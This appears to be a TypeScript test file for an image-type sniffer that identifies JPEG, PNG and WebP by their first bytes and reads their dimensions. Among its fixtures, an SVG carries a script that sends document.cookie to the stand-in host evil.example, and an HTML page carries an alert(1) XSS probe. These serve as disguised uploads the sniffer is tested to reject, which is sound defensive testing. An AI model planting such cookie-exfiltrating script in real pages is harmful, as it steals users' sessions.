// @vitest-environment node
import { describe, expect, it } from 'vitest';
import { pictureSizeOf, pictureTypeOf, readPictureSize, sniffPictureType } from './pictureType.ts';

const bytes = (...values: number[]) => new Uint8Array(values);
const text = (value: string) => new TextEncoder().encode(value);
const base64 = (value: string) => Uint8Array.from(atob(value), (char) => char.charCodeAt(0));

// The first bytes of real files, as a camera, a screenshot tool or a browser writes them.
const fixtures = {
  /** A camera JPEG: SOI, then its APP1 Exif segment. */
  cameraJpeg: bytes(0xff, 0xd8, 0xff, 0xe1, 0x1c, 0x45, 0x45, 0x78, 0x69, 0x66, 0x00, 0x00),
  /** A JFIF JPEG (SOI, APP0 'JFIF'). */
  jfifJpeg: bytes(0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01),
  /** A whole 1x1 PNG. */
  png: base64(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  ),
  /** A whole 1x1 lossless WebP. */
  webp: base64('UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA=='),
  svg: text(
    '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.example/?c="+document.cookie)</script></svg>',
  ),
  html: text('<!doctype html><html><body><script>alert(1)</script></body></html>'),
  gif: text('GIF89a\x01\x00\x01\x00\x80\x00\x00'),
  /** A WAV recording: RIFF like WebP, but not a picture. */
  wav: text('RIFF$\x00\x00\x00WAVEfmt '),
};

describe('pictureTypeOf', () => {
  it('knows JPEG, PNG and WebP by their first bytes', () => {
    expect(pictureTypeOf(fixtures.cameraJpeg)).toBe('jpeg');
    expect(pictureTypeOf(fixtures.jfifJpeg)).toBe('jpeg');
    expect(pictureTypeOf(fixtures.png)).toBe('png');
    expect(pictureTypeOf(fixtures.webp)).toBe('webp');
  });

  it('refuses SVG, HTML, GIF and other RIFF files', () => {
    expect(pictureTypeOf(fixtures.svg)).toBeUndefined();
    expect(pictureTypeOf(fixtures.html)).toBeUndefined();
    expect(pictureTypeOf(fixtures.gif)).toBeUndefined();
    expect(pictureTypeOf(fixtures.wav)).toBeUndefined();
  });

  it('refuses an empty file and a header cut short', () => {
    expect(pictureTypeOf(bytes())).toBeUndefined();
    expect(pictureTypeOf(fixtures.jfifJpeg.slice(0, 2))).toBeUndefined();
    expect(pictureTypeOf(fixtures.png.slice(0, 7))).toBeUndefined();
    // 'RIFF' and a length, the 'WEBP' after it missing.
    expect(pictureTypeOf(fixtures.webp.slice(0, 8))).toBeUndefined();
    expect(pictureTypeOf(fixtures.webp.slice(0, 11))).toBeUndefined();
  });
});

describe('sniffPictureType', () => {
  it('reads the bytes of a file, not its name or type', async () => {
    const named = (content: Uint8Array<ArrayBuffer>, name: string, type: string) =>
      new File([content], name, { type });
    expect(
      await sniffPictureType(named(fixtures.html, 'receipt.png', 'image/png')),
    ).toBeUndefined();
    expect(await sniffPictureType(named(fixtures.svg, 'sms.jpg', 'image/jpeg'))).toBeUndefined();
    expect(await sniffPictureType(named(fixtures.png, 'notes.txt', 'text/plain'))).toBe('png');
    expect(await sniffPictureType(named(fixtures.jfifJpeg, 'IMG_2041', ''))).toBe('jpeg');
    expect(await sniffPictureType(named(fixtures.webp, 'chat.webp', 'image/webp'))).toBe('webp');
    expect(await sniffPictureType(named(bytes(), 'empty.jpg', 'image/jpeg'))).toBeUndefined();
  });
});

/** A JPEG of that size as a camera writes it: SOI, an APP1 EXIF segment, a DQT, then SOF0. */
function cameraJpegOf(width: number, height: number, exifBytes = 30_000): Uint8Array<ArrayBuffer> {
  const exif = [0xff, 0xe1, ((exifBytes + 2) >> 8) & 0xff, (exifBytes + 2) & 0xff];
  const dqt = [0xff, 0xdb, 0x00, 0x04, 0x00, 0x00];
  const sof = [0xff, 0xc0, 0x00, 0x11, 0x08, height >> 8, height & 0xff, width >> 8, width & 0xff];
  const bytes = new Uint8Array(2 + exif.length + exifBytes + dqt.length + sof.length + 16);
  bytes.set([0xff, 0xd8, ...exif]);
  bytes.set([...dqt, ...sof], 2 + exif.length + exifBytes);
  return bytes;
}

/** A PNG's signature and IHDR stating that size (nothing after it). */
function pngOf(width: number, height: number): Uint8Array {
  const bytes = new Uint8Array(33);
  bytes.set(fixtures.png.subarray(0, 16));
  new DataView(bytes.buffer).setUint32(16, width);
  new DataView(bytes.buffer).setUint32(20, height);
  return bytes;
}

describe('pictureSizeOf', () => {
  it('reads the size a PNG, a WebP and a camera JPEG state', () => {
    expect(pictureSizeOf(fixtures.png, 'png')).toEqual({ width: 1, height: 1 });
    expect(pictureSizeOf(fixtures.webp, 'webp')).toEqual({ width: 1, height: 1 });
    expect(pictureSizeOf(pngOf(20_000, 20_000), 'png')).toEqual({ width: 20_000, height: 20_000 });
    expect(pictureSizeOf(cameraJpegOf(8000, 6000), 'jpeg')).toEqual({ width: 8000, height: 6000 });
  });

  it('reads the extended and the lossy WebP headers', () => {
    const extended = new Uint8Array(30);
    extended.set(text('RIFF\0\0\0\0WEBPVP8X'));
    extended.set([0x3f, 0x1f, 0x00, 0x6f, 0x17, 0x00], 24); // 7999+1 by 5999+1
    expect(pictureSizeOf(extended, 'webp')).toEqual({ width: 8000, height: 6000 });
    const lossy = new Uint8Array(30);
    lossy.set(text('RIFF\0\0\0\0WEBPVP8 '));
    lossy.set([0x9d, 0x01, 0x2a, 0x80, 0x07, 0x38, 0x04], 23); // 1920 by 1080
    expect(pictureSizeOf(lossy, 'webp')).toEqual({ width: 1920, height: 1080 });
  });

  it('states nothing where the bytes end before the size, or a JPEG breaks its markers', () => {
    expect(pictureSizeOf(fixtures.cameraJpeg, 'jpeg')).toBeUndefined();
    expect(pictureSizeOf(fixtures.png.subarray(0, 20), 'png')).toBeUndefined();
    expect(
      pictureSizeOf(bytes(0xff, 0xd8, 0x00, 0x01, 0, 0, 0, 0, 0, 0, 0), 'jpeg'),
    ).toBeUndefined();
  });

  it('reads a file far enough to pass a camera EXIF block', async () => {
    const file = new Blob([cameraJpegOf(4000, 3000, 60_000)]);
    expect(await readPictureSize(file, 'jpeg')).toEqual({ width: 4000, height: 3000 });
  });
});
